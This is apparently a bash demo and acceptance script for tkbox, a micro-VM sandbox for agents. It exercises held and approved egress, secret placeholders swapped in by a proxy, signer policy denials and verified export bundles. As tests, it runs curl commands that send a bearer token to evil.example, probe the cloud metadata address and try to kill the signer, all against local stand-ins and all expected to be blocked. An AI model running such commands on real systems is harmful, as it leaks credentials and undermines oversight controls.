#!/bin/bash
# make demo: the reference readme's "Demo", step by step, as this machine can run it (examples/demo.sh is the
# same sequence as a user types it against an installed tkbox). Each step prints its command, its output and
# "what it shows"; the end prints one acceptance line per step, checked against the output, the test origins and
# the exported bundle, and the script exits non-zero when any step failed.
#
# What is real: a Debian 12 image made with mmdebstrap from this machine's own apt configuration (built once,
# cached: tests/egress/debian-image.sh; `--image oci:DIR:latest` goes through src/image's cache like any image),
# a dev signer and the daemon in a temporary state dir, a QEMU micro-VM (KVM when /dev/kvm works, else TCG),
# apt-get installing a package from the Debian mirror through the box's proxy (the debian preset), and a second
# terminal (a tmux session this script drives) where the approvals are answered, the apply of the saved patch into a
# copy of the checkout, and the exported bundle checked offline (`tkbox verify`) and rendered (`tkbox view`, skipped
# with a note while that command is not built).
# What stands in: this machine reaches no internet beyond the package mirrors, so example.com, evil.example and
# api.github.com are tests/secrets/origin.py in a network namespace this script makes (pinned there by the
# daemon's --resolve; certificates from a test CA), and GH_TOKEN is a random value that origin knows. PyPI is
# not reachable, so the reference's `pip install` step is left out (said so when it runs).
# usage: tests/demo.sh BUILD_DIR    (DEMO_OUT=DIR: keep the bundle, its trust file and the page there, e.g. for CI)
set -uo pipefail
BUILD=${1:-build}
# tests/secrets/lib.sh brings tests/egress/lib.sh and tests/daemon/lib.sh (signer, daemon), the test network
# and its origin; their EXIT trap cleans up (ours below adds the tmux server).
source "$(dirname "$0")/secrets/lib.sh"
start=$(date +%s.%N)
# `tkbox` below (and in the second terminal) is this build's.
export PATH=$BUILD:$PATH

B=$'\033[1m' D=$'\033[2m' N=$'\033[0m'
[ -t 1 ] || B='' D='' N=''
say() { printf '\n%s# %s%s %s(at %.0f s)%s\n' "$B" "$*" "$N" "$D" "$(awk -v a="$start" -v b="$(date +%s.%N)" 'BEGIN { print b - a }')" "$N"; }
show() { printf '%s$ %s%s\n' "$B" "$*" "$N"; }
shows() { printf '%s  what it shows: %s%s\n' "$D" "$*" "$N" | fold -s -w 118 | sed '2,$s/^/    /'; }
note() { printf '%s(%s)%s\n' "$D" "$*" "$N"; }
# Run a shell command line as typed (shown first); its output on stdout and in $WORK/out.LABEL, its exit status
# in $WORK/rc.LABEL.
run_step() { # LABEL COMMAND-LINE
	show "$2"
	bash -c "$2" >"$WORK/out.$1" 2>&1
	echo $? >"$WORK/rc.$1"
	cat "$WORK/out.$1"
}
rc_of() { cat "$WORK/rc.$1" 2>/dev/null || echo 255; }

# The acceptance lines: one per reference step, "ok" or what failed.
ACC=()
demo_rc=0
accept() { # STEP WHAT-FAILED (empty: ok)
	if [ -z "$2" ]; then ACC+=("ok      $1"); else
		ACC+=("FAILED  $1:${2#;}")
		demo_rc=1
	fi
}

# The second terminal: a tmux server on its own socket, one session whose shell is the person on the host.
TMUX_SOCK=$WORK/tmux.sock
tm() { env -u TMUX tmux -S "$TMUX_SOCK" "$@"; } # its own server, even when make demo runs inside tmux
demo_exit() {
	local rc=$?
	tm kill-server >/dev/null 2>&1
	eg_cleanup
	lib_cleanup
	exit $rc
}
trap demo_exit EXIT

for bin in "$TKBOX" "$BUILD/tkbox-host" "$SIGNER" "$BUILD/tkbox-guest-linux-amd64"; do
	if [ ! -x "$bin" ]; then
		echo "demo: $bin is missing: run make build first" >&2
		exit 1
	fi
done
for p in tmux jq mmdebstrap dnsmasq openssl; do
	command -v "$p" >/dev/null || [ -x "/usr/sbin/$p" ] || {
		echo "demo: $p is missing: run make deps (it installs the Debian packages the demo needs)" >&2
		exit 1
	}
done
show "tkbox version"
tkbox version

say "Setup: a Debian 12 image (mmdebstrap from this machine's apt sources; built once, cached in $CACHE)"
show "tests/egress/debian-image.sh"
eg_image
IMG=oci:$EG_LAYOUT:latest
echo "$IMG"

say "Setup: the stand-ins for example.com, evil.example and api.github.com, in a network namespace"
note "tests/secrets/origin.py (HTTPS with a test CA, and plain HTTP) and dnsmasq; the daemon's --resolve pins the three names there; nothing leaves this machine"
# sc_up with example.com on the origin's certificate too.
eg_net_up && eg_certs && sc_certs
d=$EG_DIR/pki
printf '%s\n' "subjectAltName=DNS:api.github.com,DNS:evil.example,DNS:example.com,DNS:origin.test.example,IP:$EG_ORIGIN_IP,IP:$EG_OTHER_IP" \
	"extendedKeyUsage=serverAuth" "basicConstraints=CA:FALSE" >"$d/sc.cnf"
openssl x509 -req -in "$d/sc.csr" -CA "$d/ca.pem" -CAkey "$d/ca.key" -CAcreateserial -days 2 \
	-extfile "$d/sc.cnf" -out "$d/sc.pem" >/dev/null 2>&1 || eg_die "openssl: the demo origin's certificate"
sc_repo && eg_dns_up && sc_origin_up

say "Setup: a same-user dev signer and the daemon"
show "tkbox-signer init --dev && tkbox-signer up --wait"
note "here: tkbox-signer init --dev --dir $WORK/signer, then serve on $TKBOX_SIGNER_SOCKET"
"$SIGNER" init --dev --dir "$WORK/signer" >/dev/null || exit 1
signer_start || exit 1
show "tkbox daemon > daemon.log 2>&1 &     # exits at once when no signer answers"
note "here also: --egress-ca TEST-CA --resolve example.com=$EG_ORIGIN_IP --resolve evil.example=$EG_OTHER_IP --resolve api.github.com=$EG_ORIGIN_IP, and the test dnsmasq as its resolver"
sc_daemon_start --resolve "example.com=$EG_ORIGIN_IP" || exit 1
show "until tkbox ls >/dev/null 2>&1; do sleep 1; done"
sed 's/^/  /' "$WORK/daemon.log"

say "Setup: the second terminal (a tmux session; its shell is the person on the host)"
printf "PS1='second-terminal\$ '\n" >"$WORK/second-terminal.rc"
tm -f /dev/null new-session -d -s host -x 160 -y 50 -e "PATH=$PATH" -e "TKBOX_STATE_DIR=$TKBOX_STATE_DIR" \
	-e "TERM=xterm" "bash --rcfile $WORK/second-terminal.rc --noprofile -i" || {
	echo "demo: tmux could not start a session" >&2
	exit 1
}
show "tmux new-session -d -s host    # the demo types into it and prints what it shows"
# What the pane shows (wrapped lines joined, trailing blank lines dropped).
pane() { tm capture-pane -p -J -S - -t host | awk 'NF { for (; blank > 0; blank--) print ""; print; next } { blank++ }'; }
pane_wait() { # TEXT [SECONDS]
	local i
	for ((i = 0; i < ${2:-30} * 10; i++)); do
		pane | grep -qF -- "$1" && return 0
		sleep 0.1
	done
	return 1
}
pane_lines=0
# The person on the host answers the box's pending approval for TARGET with ACTION (approve or reject).
answer() { # LABEL ACTION TARGET
	local label=$1 action=$2 target=$3 id='' i
	for ((i = 0; i < 600; i++)); do
		approvals_json | jq -e --arg t "$target" 'any(.[]; .target == $t)' >/dev/null 2>&1 && break
		sleep 0.1
	done
	tm send-keys -t host "tkbox approvals" Enter
	pane_wait "$target" 30
	id=$(pane | awk -v t="$target" '$1 ~ /^ap-[0-9a-f]+$/ && $3 == t { id = $1 } END { print id }')
	[ -n "$id" ] && tm send-keys -t host "tkbox $action $id" Enter && pane_wait "$id: ${action/%e/}ed" 30
	echo "$id" >"$WORK/id.$label"
	echo "${D}┌─ second terminal ──────────────────────────────────────────────${N}"
	pane | tail -n +$((pane_lines + 1)) | sed "s/^/${D}│${N} /;\$s/ *\$//"
	echo "${D}└────────────────────────────────────────────────────────────────${N}"
	pane_lines=$(($(pane | wc -l) - 1))
	pane >"$WORK/pane.$label"
}
pane_wait 'second-terminal$' 10 || note "the second terminal's prompt did not show"
pane_lines=$(($(pane | wc -l) - 1)) # from its prompt on

say "Setup: a git checkout for the box's /workspace"
DEMO_CO=$WORK/demo-checkout
mkdir -p "$DEMO_CO" && (cd "$DEMO_CO" && git init -q -b main . && printf '# demo\n' >README.md &&
	git add README.md && git -c user.name=demo -c user.email=demo@tkbox.invalid commit -qm init) || exit 1
cd "$DEMO_CO" || exit 1
show "git log --oneline --stat"
git log --oneline --stat

# 1. tkbox run
say "1. A box with Debian's mirror on its allowlist, this checkout in /workspace, and a GitHub token it never sees"
show "export GH_TOKEN=ghp_...   # here a random stand-in the origin for api.github.com knows"
export GH_TOKEN=$SC_VALUE
run_step run "tkbox run --image $IMG --allow debian --workspace . --name demo \\
  --secret GH=env:GH_TOKEN@api.github.com --memory 512M --disk 512M"
unset GH_TOKEN
if [ "$(rc_of run)" -ne 0 ]; then
	sed 's/^/  /' "$WORK/daemon.log"
	accept "1 tkbox run" "; the box did not start (exit $(rc_of run))"
	printf '%s\n' "${ACC[@]}"
	exit 1
fi
# With a secret the box's env points curl, python and git at the per-box CA's bundle (/etc/tkbox/ca-bundle.crt):
# the test CA goes there too, for the stand-ins the proxy does not read (example.com).
tkbox exec -i demo -- sh -c 'test ! -f /etc/tkbox/ca-bundle.crt || cat >> /etc/tkbox/ca-bundle.crt' <"$EG_CA" >/dev/null
note "the test CA appended to the box's CA bundle, for the stand-in of example.com"
show "tkbox ls"
tkbox ls | tee "$WORK/out.ls"
show "tkbox ls --json | jq '.[0].egress.allow'"
tkbox ls --json | jq -c '(if type == "array" then .[0] else (.boxes // [])[0] end).egress.allow'
show "tkbox exec demo -- cat /proc/net/dev"
tkbox exec demo -- cat /proc/net/dev | tee "$WORK/out.netdev"
show "tkbox exec demo -- ls -A /workspace"
tkbox exec demo -- ls -A /workspace | tee "$WORK/out.ws"
shows "a QEMU micro-VM (machine type microvm, its own kernel; KVM when /dev/kvm works, TCG emulation otherwise, which tkbox ls and its records call isolation: emulated) with no network card: only lo. Every way out is a door on the host. /workspace holds a copy of the checkout. The debian preset is the hosts of the image's own apt sources; GH's host joins the allowlist. The --memory and --disk flags keep this small machine quick."
a=
grep -qE '^demo +running ' "$WORK/out.ls" || a+="; tkbox ls does not show demo running"
[ "$(grep -c ':' "$WORK/out.netdev")" -eq 1 ] && grep -q ' lo:' "$WORK/out.netdev" || a+="; the box has a network interface besides lo"
[ "$(grep -vxE '\.git|lost\+found' "$WORK/out.ws" | tr '\n' ' ')" = "README.md " ] || a+="; /workspace is not a copy of the checkout"
accept "1 tkbox run (a micro-VM with no network card)" "$a"

# 2. apt-get through the debian preset
say "2. apt-get install through the door (the image has no jq)"
run_step apt "tkbox exec demo --env DEBIAN_FRONTEND=noninteractive -- sh -c 'apt-get update -q && apt-get install -y -q jq'"
shows "jq is not in this image. The image is Debian, so the debian preset (the hosts of its own apt sources) lets apt-get fetch it through the host proxy; DEBIAN_FRONTEND=noninteractive keeps apt from asking questions. Ubuntu images need the apt-ubuntu preset instead."

# 3. print(1+1)
say "3. A command, decided before it starts"
run_step py "tkbox exec demo -- python3 -c 'print(1+1)'"
shows "print(1+1) is decided by the signer before it starts and recorded in the run as a Bash decision (the command line as its keyed digest; the box's events.jsonl names it) with its exit status."

# 4. example.com: held, approved from the second terminal
say "4. A host off the allowlist is held until a person approves it"
show "tkbox exec demo -- curl -sI https://example.com"
tkbox exec demo -- curl -sI https://example.com >"$WORK/out.held" 2>&1 &
held=$!
answer held approve example.com:443
wait "$held"
echo $? >"$WORK/rc.held"
grep -m1 -F "$(cat "$WORK/id.held")" "$WORK/daemon.log" | sed "s/^/${D}(the daemon's log) /;s/$/${N}/"
cat "$WORK/out.held"
shows "example.com is off the allowlist, so the proxy holds the connection and the daemon prints an approval id. tkbox approvals and tkbox approve <id> (or tkbox reject <id>) ran in another terminal on the host; nothing in the VM can answer. Unanswered, it is refused after 2 minutes. The name is not even looked up before the approval."

# 5. pip
say "5. pip install (left out here)"
note "the reference's tkbox exec demo -- pip install -q requests needs PyPI, which this machine cannot reach; --allow pypi takes its hosts from the image's pip configuration (docs/egress.md)"

# 6. metadata
say "6. Cloud metadata"
run_step meta "tkbox exec demo -- curl -sS https://169.254.169.254/"
shows "169.254.169.254 is the cloud metadata address. It is refused before any decision, whatever the allowlist says (403 to the box's CONNECT)."

# 7. the placeholder
say "7. Secrets: the box holds a placeholder"
run_step ph "tkbox exec demo -- sh -c 'echo \"\$GH\"'"
shows "\$GH inside the box is a placeholder, not your token."

# 8. evil.example over HTTPS: held, rejected from the second terminal
say "8. evil.example over HTTPS: held like example.com, and rejected from the second terminal"
show "tkbox exec demo -- sh -c 'curl -sS -H \"Authorization: Bearer \$GH\" https://evil.example/'"
tkbox exec demo -- sh -c 'curl -sS -H "Authorization: Bearer $GH" https://evil.example/' >"$WORK/out.evils" 2>&1 &
held=$!
answer evils reject evil.example:443
wait "$held"
echo $? >"$WORK/rc.evils"
cat "$WORK/out.evils"
note "exit $(rc_of evils)"
shows "evil.example over HTTPS is off the allowlist, so it is held for approval like example.com; here the person rejected it (403 approval-rejected). tkbox does not read that encrypted connection, so it cannot see the placeholder in it; even if someone approved the connection, only the placeholder could leave, because the real value never enters the VM."

# 9. evil.example over plain HTTP: a leak, blocked
say "9. evil.example over plain HTTP: blocked at once"
run_step evilh "tkbox exec demo -- sh -c 'curl -sS -H \"Authorization: Bearer \$GH\" http://evil.example/'"
echo
shows "evil.example over plain HTTP goes through the proxy as a request it reads. It carries GH's placeholder to a host GH is not bound to, so the proxy blocks it at once (403 secret-leak) and records tkbox.secret.leak."

# 10. api.github.com: the swap
say "10. The bound host gets the real token"
run_step gh "tkbox exec demo -- sh -c 'curl -sS -H \"Authorization: Bearer \$GH\" https://api.github.com/user | grep \"\\\"login\\\"\"'"
shows "api.github.com is the host GH is bound to: a secret's hosts join the box's allowlist, and the proxy reads that connection (the box trusts its per-box CA), swaps the real token into the Authorization header and records tkbox.secret.use. The output is the login (here the stand-in's, which answers it only for the real token). Piping curl into python instead would be refused by the signer: TK-D002, a downloaded script run unread."
note "the stand-in for api.github.com received the real token in Authorization $(sc_verdict .swapped.GH) time(s), anywhere else $(sc_verdict '.violations | length')"

# 11. x.txt
say "11. The agent's edits come back as a patch"
run_step diff "tkbox exec demo -- sh -c 'echo hi > /workspace/x.txt' && tkbox diff demo"
shows "tkbox diff shows a git-format patch with x.txt. Apply never works on a running box."

# More than the reference's list: a command the policy denies.
say "Also: a command the signer's policy denies never starts"
run_step deny "tkbox exec demo -- pkill tkbox-signer"
note "exit $(rc_of deny)"
shows "the signer denies touching itself (TK-D007): exit 126, nothing ran."

# 12. stop, apply into a copy, export, verify
say "12. Stop, apply into a copy of the checkout, export, verify"
DEMO_COPY=$WORK/demo-checkout-copy
run_step stop "tkbox stop demo"
show "cp -a . ../demo-checkout-copy"
cp -a "$DEMO_CO" "$DEMO_COPY"
run_step apply "tkbox apply demo --checkout ../demo-checkout-copy"
run_step applied "git -C ../demo-checkout-copy status --short && cat ../demo-checkout-copy/x.txt"
run_step export "tkbox export demo -o ../demo.tkb"
run_step verify "tkbox verify ../demo.tkb --trust ../demo.trust.json"
shows "tkbox stop saves the patch with its digest. tkbox apply (after tkbox stop, before tkbox export) asked the signer about x.txt (a Write decision) and then wrote it, here into a copy of the checkout; the checkout itself is untouched. tkbox verify checks the bundle offline and prints Integrity: VERIFIED. With the dev signer it also prints Assurance: dev (no witness cosigned the signer's log) and isolation: same-user (a process running as your user could have reached the key). The agent inside the box cannot, but the bundle only states what the signer's setup proves."

# 13. tkbox view
say "13. The bundle as a page"
out=$(tkbox view --help 2>&1)
if ! grep -q 'not built yet' <<<"$out"; then
	VIEW=1
	run_step view "tkbox view ../demo.tkb --trust ../demo.trust.json -o ../demo.html"
	ls -l "$WORK/demo.html" 2>/dev/null | awk '{ print $5 " bytes: " $NF }'
	shows "one self-contained HTML page (no network, no external assets, no script: its filters are CSS, and a Content-Security-Policy forbids the rest): the verdict with the assurance and isolation at the top, the crossings counted by door, a timeline of every record with its seq and hash (commands, connections, approvals, refusals, secret uses by name, files written) that you can filter by door. Every string from the bundle is escaped: a bundle is hostile input."
else
	VIEW=0
	note "tkbox view is not built yet in this tree ($(head -n 1 <<<"$out")): skipped"
fi

# The records behind each step, from the bundle.
bundle_facts() {
	python3 - "$1" <<'PY'
import json, sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
ev = [json.loads(l)["event"] for n in sorted(z.namelist()) if n.startswith("runs/")
      for l in z.read(n).decode().splitlines()]
dec, res, out = {}, {}, []
for e in ev:
    t, d = e.get("type"), e.get("data", {})
    if t == "policy.decision":
        dec[d.get("decision_id")] = d
    elif t == "tool.result":
        res[d.get("decision_id")] = d
for i, d in dec.items():
    r = res.get(i, {})
    v = r.get("output", {}).get("value", {}) if isinstance(r.get("output"), dict) else {}
    out.append({"k": "decision", "id": i, "tool": d.get("tool"), "decision": d.get("decision"), "ok": r.get("ok"),
                "exit_code": v.get("exit_code"), "bytes_down": v.get("bytes_down"),
                "written": v.get("written_paths")})
for e in ev:
    d = e.get("data", {})
    if e.get("type") == "review" and str(d.get("reviewer", "")).startswith("tkbox."):
        out.append({"k": d.get("reviewer"), "data": d.get("verdict")})
for o in out:
    print(json.dumps(o))
PY
}
[ ! -s "$WORK/demo.tkb" ] || bundle_facts "$WORK/demo.tkb" >"$WORK/facts.jsonl" 2>"$WORK/facts.err"
fact() { jq -s "$@" "$WORK/facts.jsonl" 2>/dev/null; }

say "The records in the run"
gaps=
[ -s "$WORK/demo.tkb" ] && read -r dec res obs gaps reason kinds < <(bundle_counts "$WORK/demo.tkb") &&
echo "$dec decisions, $res results, $obs observations ($kinds), $gaps gaps; closed: $reason"
fact -r '.[] | select(.k != "decision" and .k != "tkbox.box") | "  \(.k) \(.data | tostring | .[0:140])"'
[ -s "$WORK/demo.tkb" ] && mkdir -p "$WORK/demo-bundle" && (cd "$WORK/demo-bundle" && python3 -c 'import sys, zipfile; zipfile.ZipFile(sys.argv[1]).extractall(".")' "$WORK/demo.tkb")
seen=$(sc_seen_in "$WORK/demo-bundle" "$TKBOX_STATE_DIR" "$WORK/daemon.log" "$WORK"/out.* "$WORK"/pane.*)
echo "the token (or its first 6 bytes, hex, base64) in the bundle, the state dir, the daemon's log or any output: ${seen:-nowhere}"

# Acceptance, one line per step.
a=
[ "$(rc_of apt)" -eq 0 ] || a+="; apt-get exited $(rc_of apt)"
grep -q '^Setting up jq ' "$WORK/out.apt" || a+="; apt-get did not install jq"
[ "$(fact '[.[] | select(.tool == "WebFetch" and .ok == true and (.bytes_down // 0) > 0)] | length')" -ge 1 ] 2>/dev/null ||
	a+="; the bundle has no completed WebFetch with bytes down (the mirror)"
accept "2 apt-get install jq through the debian preset" "$a"
a=
[ "$(cat "$WORK/out.py")" = 2 ] || a+="; it did not print 2"
# The bundle holds the command line's commitment, not its text: the box's events name the decision id.
id=$(jq -r 'select(.event == "exec.decided" and .command == "python3 -c '"'print(1+1)'"'") | .decision_id' \
	"$TKBOX_STATE_DIR/boxes/demo/events.jsonl" 2>/dev/null | head -n 1)
[ "$(fact --arg i "${id:-none}" '[.[] | select(.id == $i and .tool == "Bash" and .decision == "allow" and .exit_code == 0)] | length')" -eq 1 ] 2>/dev/null ||
	a+="; the bundle has no Bash decision for it completed with exit code 0"
accept "3 python3 -c 'print(1+1)' recorded as Bash" "$a"
a=
grep -q "$(cat "$WORK/id.held" 2>/dev/null || echo none): approved" "$WORK/pane.held" 2>/dev/null ||
	a+="; the second terminal did not show the approval"
[ "$(rc_of held)" -eq 0 ] && head -n 1 "$WORK/out.held" | grep -q '^HTTP/' || a+="; curl did not get a response after the approval (exit $(rc_of held))"
[ "$(fact '[.[] | select(.k == "tkbox.approval" and .data.target == "example.com:443" and .data.decision == "approved")] | length')" -eq 1 ] 2>/dev/null ||
	a+="; the bundle has no tkbox.approval approving example.com:443"
accept "4 example.com held, approved from the second terminal" "$a"
ACC+=("skipped 5 pip install (no PyPI here)")
a=
[ "$(rc_of meta)" -ne 0 ] && grep -q '403' "$WORK/out.meta" || a+="; curl was not refused with 403"
[ "$(fact '[.[] | select(.k == "tkbox.egress" and .data.host == "169.254.169.254" and .data.decision == "refused")] | length')" -ge 1 ] 2>/dev/null ||
	a+="; the bundle has no tkbox.egress refusal of 169.254.169.254"
accept "6 cloud metadata refused" "$a"
a=
[[ $(cat "$WORK/out.ph") =~ ^tkbox_GH_[0-9a-f]{32}$ ]] || a+="; echo \$GH did not print a placeholder"
accept "7 \$GH is a placeholder" "$a"
a=
grep -q "$(cat "$WORK/id.evils" 2>/dev/null || echo none): rejected" "$WORK/pane.evils" 2>/dev/null ||
	a+="; the second terminal did not show the rejection"
[ "$(rc_of evils)" -ne 0 ] || a+="; curl succeeded"
[ "$(fact '[.[] | select(.k == "tkbox.approval" and .data.target == "evil.example:443" and .data.decision == "rejected")] | length')" -eq 1 ] 2>/dev/null ||
	a+="; the bundle has no tkbox.approval rejecting evil.example:443"
accept "8 evil.example over HTTPS held, rejected from the second terminal" "$a"
a=
grep -q 'rule secret-leak' "$WORK/out.evilh" || a+="; plain HTTP to evil.example was not blocked as a leak"
[ "$(fact '[.[] | select(.k == "tkbox.secret.leak" and .data.host == "evil.example")] | length')" -ge 1 ] 2>/dev/null ||
	a+="; the bundle has no tkbox.secret.leak for evil.example"
[ -z "$(sc_reqs 'select(.host == "evil.example")')" ] || a+="; a request reached evil.example"
accept "9 plain HTTP to evil.example blocked as a leak" "$a"
a=
grep -q '"login": "tkbox-demo"' "$WORK/out.gh" || a+="; no login in the output"
[ "$(sc_verdict .swapped.GH)" -ge 1 ] 2>/dev/null || a+="; the bound host did not receive the real token"
[ "$(sc_verdict '.violations | length')" = 0 ] || a+="; the origin saw the token where it may not arrive"
[ "$(fact '[.[] | select(.k == "tkbox.secret.use" and .data.host == "api.github.com")] | length')" -ge 1 ] 2>/dev/null ||
	a+="; the bundle has no tkbox.secret.use for api.github.com"
[ -z "$seen" ] || a+="; the token is in $seen"
accept "10 api.github.com gets the real token; it is nowhere else" "$a"
a=
grep -q '^+++ b/x.txt$' "$WORK/out.diff" && grep -q '^+hi$' "$WORK/out.diff" || a+="; tkbox diff did not show x.txt"
accept "11 tkbox diff shows x.txt" "$a"
a=
[ "$(rc_of deny)" -eq 126 ] && grep -q 'TK-D007' "$WORK/out.deny" || a+="; pkill tkbox-signer was not denied (exit $(rc_of deny))"
accept "   a denied command never starts" "$a"
a=
[ "$(rc_of stop)" -eq 0 ] || a+="; tkbox stop exited $(rc_of stop)"
[ "$(cat "$DEMO_COPY/x.txt" 2>/dev/null)" = hi ] || a+="; x.txt is not in the copy of the checkout"
[ "$(git -C "$DEMO_COPY" status --porcelain | tr '\n' ' ')" = "?? x.txt " ] || a+="; the copy holds more than x.txt"
[ ! -e "$DEMO_CO/x.txt" ] || a+="; the original checkout was written"
[ "$(fact '[.[] | select(.tool == "Write" and .written == ["x.txt"])] | length')" -eq 1 ] 2>/dev/null ||
	a+="; the bundle has no Write completion naming x.txt"
echo "patch acceptance: ${a:-ok}" | sed 's/: ; /: FAILED: /'
[ "$(rc_of apply)" -eq 0 ] || a+="; tkbox apply exited $(rc_of apply)"
[ "$(rc_of export)" -eq 0 ] && [ -s "$WORK/demo.tkb" ] || a+="; tkbox export exited $(rc_of export)"
grep -q '^Integrity: VERIFIED\.' "$WORK/out.verify" || a+="; tkbox verify did not print Integrity: VERIFIED."
[ ! -s "$WORK/demo.tkb" ] || [ "$gaps" = 0 ] || a+="; the run has $gaps gaps"
accept "12 stop, apply into a copy, export, verify" "$a"
# The secrets door's acceptance as before (steps 7, 9, 10 together).
s=
for st in "7 " "9 " "10 "; do
	for l in "${ACC[@]}"; do [[ $l == FAILED\ \ $st* ]] && s+="; step ${st% } failed"; done
done
echo "secrets acceptance: ${s:-ok}" | sed 's/: ; /: FAILED: /'
if [ "$VIEW" = 1 ]; then
	a=
	[ "$(rc_of view)" -eq 0 ] || a+="; tkbox view exited $(rc_of view)"
	grep -q ': VERIFIED$' "$WORK/out.view" || a+="; tkbox view did not say VERIFIED"
	# The page's text (tags and styles dropped): the verdict and this run's approvals and secret records.
	python3 - "$WORK/demo.html" >"$WORK/demo.html.txt" 2>/dev/null <<'PY'
import html, re, sys
s = open(sys.argv[1], encoding="utf-8").read()
s = re.sub(r"<style.*?</style>", " ", s, flags=re.S)
print(re.sub(r"\s+", " ", html.unescape(re.sub(r"<[^>]+>", " ", s))))
PY
	grep -qE '(^| )VERIFIED Assurance: dev' "$WORK/demo.html.txt" || a+="; the page does not show the verdict and assurance"
	grep -q 'approvals (2)' "$WORK/demo.html.txt" && grep -q 'secrets (2)' "$WORK/demo.html.txt" ||
		a+="; the page does not count 2 approvals and 2 secret records"
	! grep -qi '<script' "$WORK/demo.html" || a+="; the page holds a script element"
	accept "13 tkbox view writes the page" "$a"
else
	ACC+=("skipped 13 tkbox view (not built yet)")
fi

if [ -n "${DEMO_OUT:-}" ]; then
	mkdir -p "$DEMO_OUT" && cp -f "$WORK"/demo.tkb "$WORK"/demo.trust.json "$DEMO_OUT"/ 2>/dev/null &&
		{ [ ! -s "$WORK/demo.html" ] || cp -f "$WORK/demo.html" "$DEMO_OUT"/; } &&
		note "the bundle, its trust file and the page are kept in $DEMO_OUT"
fi

say "Acceptance, one line per step"
printf '%s\n' "${ACC[@]}"
echo "demo acceptance: $([ "$demo_rc" -eq 0 ] && echo ok || echo "FAILED ($(printf '%s\n' "${ACC[@]}" | grep -c '^FAILED') steps)")"
printf '\ndemo finished in %.1f s\n' "$(awk -v a="$start" -v b="$(date +%s.%N)" 'BEGIN { print b - a }')"
exit $demo_rc
